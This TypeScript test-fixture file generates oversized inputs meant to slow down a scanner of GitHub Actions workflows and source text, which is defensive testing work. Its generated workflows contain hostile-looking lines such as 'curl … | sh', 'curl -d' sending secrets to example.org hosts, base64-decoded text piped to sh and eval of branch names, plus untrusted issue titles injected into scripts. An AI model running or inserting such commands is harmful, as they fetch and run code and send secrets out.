/** A file that somebody wrote to make reading it slow: `write` gives about that many bytes. */
export interface Adversary {
  readonly what: string;
  readonly path: string;
  readonly write: (bytes: number) => string;
}

const WORKFLOW = ".github/workflows/ci.yml";
const PRIVILEGED =
  "discussion, discussion_comment, fork, gollum, issue_comment, issues, pull_request_target, watch, workflow_run";
const TOKEN_STARTS =
  "glpat- figd_ lin_api_ npm_ ghp_ xoxb- sk-ant-api03- ops_ey SG. tskey-ab- hvs.".split(" ");
const TITLE = "${{ github.event.issue.title }}";
const SECRET = "${{ secrets.KEY }}";

/** Workflows; each is within the reader's own limits of size and nodes, else it would be refused at once. */
export const workflowAdversaries: readonly Adversary[] = [
  script("expressions, one a line", (bytes) => fill(`echo ${TITLE}\n`, bytes)),
  script("expressions on one line", (bytes) => fill(`${TITLE} `, bytes)),
  script("expressions that never close", (bytes) => fill("${{ a ", bytes)),
  script("brackets in one expression", (bytes) => `\${{ ${fill("(", bytes)}`),
  script("closed brackets in one expression", (bytes) => {
    return `\${{ ${fill("(", bytes / 2)}1${fill(")", bytes / 2)} }}`;
  }),
  script("alternatives in one expression", (bytes) => `\${{ 1 ${fill("|| github.ref ", bytes)} }}`),
  script("quotes in one expression", (bytes) => `\${{ ${fill("'", bytes)}`),
  script("secrets", (bytes) => numbered(bytes, (n) => `echo \${{ secrets.KEY_${n} }}\n`)),
  script("outsiders' texts", (bytes) =>
    numbered(bytes, (n) => `\${{ github.event.a${n}.title }}\n`),
  ),
  script("downloads that are run", (bytes) => {
    return numbered(bytes, (n) => `curl https://h${n}.example.org/x | sh\n`);
  }),
  script("data that is sent", (bytes) => {
    return numbered(bytes, (n) => `curl -d @x https://h${n}.example.org/\n`);
  }),
  script("outputs that are written", (bytes) => {
    return numbered(bytes, (n) => `echo "o${n}=${TITLE}" >> $GITHUB_OUTPUT\n`);
  }),
  script("single quotes", (bytes) => fill("'", bytes)),
  script("double quotes", (bytes) => fill('"', bytes)),
  script("substitutions that never close", (bytes) => fill('"$(', bytes)),
  script("backquotes", (bytes) => fill("a `", bytes)),
  script("lines that go on", (bytes) => fill("curl \\\n", bytes)),
  script("documents that never end", (bytes) => fill("cat <<EOF\n", bytes)),
  script("assignments", (bytes) => fill("a=1 ", bytes)),
  script(
    "assignments behind a long word",
    (bytes) => `${fill("a", bytes / 2)} ${fill("a=1 ", bytes / 2)}`,
  ),
  script("runs of one download by a long command", (bytes) => {
    return `curl -o f ${fill("$a ", bytes / 2)}\n${fill("sh f\n", bytes / 2)}`;
  }),
  script("pipes", (bytes) => fill("curl x | ", bytes)),
  script("white space", (bytes) => `curl${fill(" ", bytes)}| sh`),
  script("one word", (bytes) => fill("a", bytes)),
  script("encoded text", (bytes) => `echo ${fill("QUJD", bytes)} | base64 -d | sh`),
  steps("actions", (n) => `- uses: octo/a${n}@v1 # 0123456789abcdef0123456789abcdef01234567`),
  steps("scripts", (n) => `- run: 'echo ${TITLE} ${n}'\n        if: github.actor == 'ann'`),
  steps("actions under many conditions", (n) => {
    const condition = numbered(15_000, (part) => `a${n % 7}x${part} && `);
    return `- uses: octo/a${n}@v1\n        if: ${condition}true`;
  }),
  steps("outputs handed on", (n) => {
    const before = n === 0 ? TITLE : `\${{ steps.s${n - 1}.outputs.t }}`;
    return `- id: s${n}\n        run: 'echo "t=${before}" >> $GITHUB_OUTPUT'`;
  }),
  steps("checkouts of what a step before hands on", (n) => {
    const write = `echo "V${n}=\${{ steps.s${n - 1}.outputs.v }}$HEAD_REF" >> $GITHUB_ENV`;
    return `- id: s${n}\n        run: '${write}; git checkout $V${n}'`;
  }),
  steps("checkouts that are put together", (n) => {
    const ref = `\${{ format('{0}{0}{0}{0}', a || b || c) }}${n}`;
    return `- uses: actions/checkout@v4\n        with: {ref: "${ref}"}`;
  }),
  steps("variables handed on", (n) => {
    const before = n === 0 ? TITLE : `\${{ env.V${n - 1} }}`;
    return `- run: 'echo "V${n}=${before}" >> $GITHUB_ENV'`;
  }),
  {
    what: "variables",
    path: WORKFLOW,
    write: (bytes) => {
      const names = numbered(bytes / 2, (n) => `      V${n}: '${TITLE} ${"v".repeat(30)}'\n`);
      const uses = numbered(bytes / 2, (n) => `          echo \${{ env.V${n} }}\n`);
      return `on: issues\njobs:\n  a:\n    runs-on: x\n    env:\n${names}    steps:\n      - run: |\n${uses}`;
    },
  },
  around("steps", {
    shared: (n) => `  V${n}: '${SECRET} ${"v".repeat(40)}'\n`,
    jobs: (bytes) => {
      const all = numbered(
        bytes,
        (n) => `      - run: curl -d "$V${n}" https://example.org/ # ${n}\n`,
      );
      return `  a:\n    runs-on: x\n    steps:\n${all}`;
    },
  }),
  around("steps that assign", {
    shared: (n) => `  V${n}: '${TITLE} ${"v".repeat(40)}'\n`,
    jobs: (bytes) => {
      const all = numbered(
        bytes,
        (n) => `      - run: X=$V${n}; Y="$X"; make "$Y" # ${"x".repeat(30)}\n`,
      );
      return `  a:\n    runs-on: x\n    steps:\n${all}`;
    },
  }),
  around("jobs with variables of their own", {
    shared: (n) => `  V${n}: '${SECRET} ${"v".repeat(40)}'\n`,
    jobs: (bytes) => {
      const job = `    env: { A: b }\n    steps: [{ run: 'curl -d "$A" https://example.org/' }]\n`;
      const padding = "x".repeat(Math.max(0, Math.min(800, bytes / 450 - job.length - 40)));
      return numbered(bytes, (n) => `  j${n}:\n    runs-on: x\n    name: ${padding}\n${job}`);
    },
  }),
  script("variables that are run", (bytes) => {
    return numbered(bytes, (n) => `V${n}="$V${n - 1} $GITHUB_HEAD_REF"; echo "$V${n}" | sh\n`);
  }),
  script("variables in groups", (bytes) => {
    return `${fill("(", 900)}${fill("echo $GITHUB_HEAD_REF | cat)", 900 * 28)}${fill("\neval $(echo $GITHUB_HEAD_REF)", bytes)}`;
  }),
  jobs("jobs that need one another", (n) => {
    const before = n === 0 ? "" : `    needs: j${n - 1}\n`;
    const taken = n === 0 ? TITLE : `\${{ needs.j${n - 1}.outputs.t }}`;
    return `${before}    outputs: { t: '${taken}' }\n    steps: [{ run: 'echo ${taken}' }]\n`;
  }),
  jobs("jobs with the default token", () => "    steps: [{ run: make }]\n"),
  jobs("jobs with conditions", (n) => {
    return `    if: ${fill("github.actor == 'ann' && ", 400)}${n}\n    steps: [{ run: make }]\n`;
  }),
  {
    what: "one condition of many",
    path: WORKFLOW,
    write: (bytes) => {
      const condition = numbered(bytes, (n) => `github.actor != 'a${n}' && `);
      return `on: [${PRIVILEGED}]\njobs:\n  a:\n    runs-on: x\n    if: ${condition}true\n    steps: [{ run: make }]\n`;
    },
  },
  {
    what: "runners of a matrix",
    path: WORKFLOW,
    write: (bytes) => {
      const labels = numbered(bytes, (n) => `'${"self-hosted-".repeat(6)}${n}', `);
      return `on: push\njobs:\n  a:\n    runs-on: \${{ matrix.os }}\n    strategy: { matrix: { os: [${labels}] } }\n    steps: [{ run: make }]\n`;
    },
  },
  {
    what: "two axes of a matrix",
    path: WORKFLOW,
    write: (bytes) => {
      const axis = numbered(bytes / 2, (n) => `'${"label-".repeat(6)}${n}', `);
      return `on: push\njobs:\n  a:\n    runs-on: ['\${{ matrix.a }}', '\${{ matrix.b }}']\n    strategy: { matrix: { a: [${axis}], b: [${axis}] } }\n    steps: [{ run: make }]\n`;
    },
  },
  {
    what: "secrets by an axis of a matrix",
    path: WORKFLOW,
    write: (bytes) => {
      const axis = numbered(bytes / 2, (n) => `'${"key-".repeat(6)}${n}', `);
      const uses = fill("${{ secrets[matrix.a] }} ", bytes / 2);
      return `on: push\njobs:\n  a:\n    runs-on: x\n    strategy: { matrix: { a: [${axis}] } }\n    steps: [{ run: '${uses}' }]\n`;
    },
  },
  {
    what: "options of a container",
    path: WORKFLOW,
    write: (bytes) => {
      const options = numbered(bytes, (n) => `--cap-add C${n} `);
      return `on: push\njobs:\n  a:\n    runs-on: x\n    container: { image: x, options: '${options}' }\n    steps: [{ run: make }]\n`;
    },
  },
  {
    what: "filters of events",
    path: WORKFLOW,
    write: (bytes) => {
      const branches = numbered(bytes, (n) => `'${"branch/".repeat(8)}${n}', `);
      return `on: { pull_request_target: { branches: [${branches}] } }\njobs: { a: { runs-on: x, steps: [{ run: make }] } }\n`;
    },
  },
  {
    what: "one job that many aliases repeat",
    path: WORKFLOW,
    write: (bytes) => {
      // Written out it is three times as large; the reader's cap is at four megabytes.
      const body = `{ runs-on: x, steps: [{ run: '${fill(`${TITLE} `, bytes / 20)}' }] }`;
      const padding = "x".repeat(bytes / 64);
      const others = Array.from({ length: 60 }, (_, n) => `  j${n}: *job # ${padding}\n`).join("");
      return `on: push\njobs:\n  a: &job ${body}\n${others}`;
    },
  },
  { what: "open brackets", path: WORKFLOW, write: (bytes) => fill("[", bytes) },
  { what: "comments", path: WORKFLOW, write: (bytes) => fill("# a comment\n", bytes) },
  { what: "empty lines", path: WORKFLOW, write: (bytes) => fill("\n", bytes) },
  { what: "faults", path: WORKFLOW, write: (bytes) => fill("a: b: c\n", bytes) },
];

/** The same in an action: it is read as one job. */
export const actionAdversaries: readonly Adversary[] = [
  inAction("inputs in scripts", (n) => `- run: 'echo \${{ inputs.i${n} }}'`),
  inAction("outputs handed on", (n) => {
    const before = n === 0 ? "${{ inputs.t }}" : `\${{ steps.s${n - 1}.outputs.t }}`;
    return `- id: s${n}\n      run: 'echo "t=${before}" >> $GITHUB_OUTPUT'`;
  }),
];

/** Texts that no reader of a format claims. */
export const textAdversaries: readonly Adversary[] = [
  source("one line", (bytes) => fill("a", bytes)),
  source("lines", (bytes) => fill("const a = 1;\n", bytes)),
  source("empty lines", (bytes) => fill("\n", bytes)),
  source("reversed words", (bytes) => fill("\u202Eabc\u202C ", bytes)),
  source("isolates that never close", (bytes) => fill("\u2066", bytes)),
  source("invisible letters", (bytes) => fill("a\u200B", bytes)),
  source("tags", (bytes) => fill("\u{E0041}", bytes)),
  source("mixed scripts", (bytes) => fill("p\u0430ypal ", bytes)),
  source("many names", (bytes) => numbered(bytes, (n) => `p\u0430y${n} pay${n}\n`)),
  source("accents on one letter", (bytes) => `a${fill("\u0301", bytes)}`),
  source("quotes", (bytes) => fill("\"'`", bytes)),
  source("comments that never close", (bytes) => fill("/* ", bytes)),
  source("what tokens of Apps begin with", (bytes) => fill("ghs_1_", bytes)),
  source("what tokens of Apps begin with, eight in a row", (bytes) => {
    return fill(`${"ghs_1_".repeat(8)}${"a".repeat(960)}.${"a".repeat(9_999)} `, bytes);
  }),
  source("what other tokens begin with", (bytes) => {
    return fill(TOKEN_STARTS.join(""), bytes);
  }),
  source("tokens", (bytes) => numbered(bytes, (n) => `ghp_${String(n).padStart(36, "aB3")}\n`)),
  source("keys that do not end", (bytes) => fill("-----BEGIN PRIVATE KEY-----\nMIIE", bytes)),
  source("one long key", (bytes) => `-----BEGIN PRIVATE KEY-----${fill("MIIE", bytes)}-----END`),
  source("passwords in addresses", (bytes) => {
    return numbered(bytes, (n) => `https://a${n}:${"b-".repeat(120)}@c.${"d.".repeat(120)} `);
  }),
  source("addresses of databases", (bytes) => numbered(bytes, (n) => `mysql://a:${n}b@c/d?`)),
  source("hidden characters beside tokens", (bytes) => {
    return fill(`\u200B ghp_${"aB3".repeat(12)} `, bytes);
  }),
  { ...source("submodules", submodules), path: ".gitmodules" },
  {
    ...source("a minified line", (bytes) => fill("function(a){return a};", bytes)),
    path: "a.min.js",
  },
];

function script(what: string, text: (bytes: number) => string): Adversary {
  return {
    what: `a script of ${what}`,
    path: WORKFLOW,
    write: (bytes) => {
      const lines = text(bytes)
        .split("\n")
        .map((line) => `          ${line}\n`);
      const head = "on: issues\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: |\n";
      return `${head}${lines.join("").slice(0, bytes)}`;
    },
  };
}

/** Half of it variables of the whole workflow, which each of its jobs and steps is given. */
function around(
  what: string,
  parts: {
    readonly shared: (number: number) => string;
    readonly jobs: (bytes: number) => string;
  },
): Adversary {
  return {
    what: `variables around ${what}`,
    path: WORKFLOW,
    write: (bytes) =>
      `on: issues\nenv:\n${numbered(bytes / 2, parts.shared)}jobs:\n${parts.jobs(bytes / 2)}`,
  };
}

/** Padded so that nodes and bytes reach their limits together. */
function steps(what: string, step: (number: number) => string): Adversary {
  return {
    what: `steps with ${what}`,
    path: WORKFLOW,
    write: (bytes) => {
      const all = numbered(bytes, (n) => `      ${step(n)}\n        name: ${"x".repeat(60)}\n`);
      return `on: [${PRIVILEGED}]\njobs:\n  a:\n    runs-on: x\n    steps:\n${all}`;
    },
  };
}

function jobs(what: string, body: (number: number) => string): Adversary {
  return {
    what,
    path: WORKFLOW,
    write: (bytes) => {
      // A thousand jobs are the most that a workflow may have.
      const padding = "x".repeat(Math.max(0, Math.min(950, bytes / 900 - body(1).length - 40)));
      const all = numbered(
        bytes,
        (n) => `  j${n}:\n    runs-on: x\n    name: ${padding}\n${body(n)}`,
      );
      return `on: [${PRIVILEGED}]\njobs:\n${all}`;
    },
  };
}

function inAction(what: string, step: (number: number) => string): Adversary {
  return {
    what: `an action with ${what}`,
    path: "action.yml",
    write: (bytes) => {
      const all = numbered(bytes, (n) => `    ${step(n)}\n      name: ${"x".repeat(60)}\n`);
      return `runs:\n  using: composite\n  steps:\n${all}`;
    },
  };
}

function source(what: string, write: (bytes: number) => string): Adversary {
  return { what: `a text of ${what}`, path: "src/a.ts", write };
}

function submodules(bytes: number): string {
  return numbered(
    bytes,
    (n) => `[submodule "m${n}"]\n\tpath = m${n}\n\turl = https://example.org/m\n`,
  );
}

export function fill(part: string, bytes: number): string {
  return part.repeat(Math.max(1, Math.floor(bytes / new TextEncoder().encode(part).length)));
}

export function numbered(bytes: number, part: (number: number) => string): string {
  let [text, number] = ["", 0];
  while (text.length < bytes) {
    text += part(number);
    number += 1;
  }
  return text;
}
